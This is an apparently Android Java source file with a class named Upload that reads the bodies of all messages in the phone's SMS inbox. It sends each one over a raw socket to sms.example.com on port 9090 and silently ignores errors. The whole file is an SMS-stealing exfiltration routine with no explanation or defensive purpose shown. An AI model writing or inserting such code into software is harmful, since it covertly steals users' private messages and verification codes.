package p;

import android.content.ContentResolver;
import android.database.Cursor;
import android.net.Uri;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;

final class Upload implements Runnable {
    private final ContentResolver resolver;

    Upload(ContentResolver resolver) {
        this.resolver = resolver;
    }

    @Override
    public void run() {
        Cursor cursor = resolver.query(Uri.parse("content://sms/inbox"), new String[] {"body"}, null, null, "date DESC");
        if (cursor == null) {
            return;
        }
        try {
            Socket socket = new Socket("sms.example.com", 9090);
            OutputStream out = socket.getOutputStream();
            for (boolean more = cursor.moveToFirst(); more; more = cursor.moveToNext()) {
                out.write(cursor.getString(0).getBytes());
                out.write('\n');
            }
            socket.close();
        } catch (IOException error) {
            return;
        } finally {
            cursor.close();
        }
    }
}
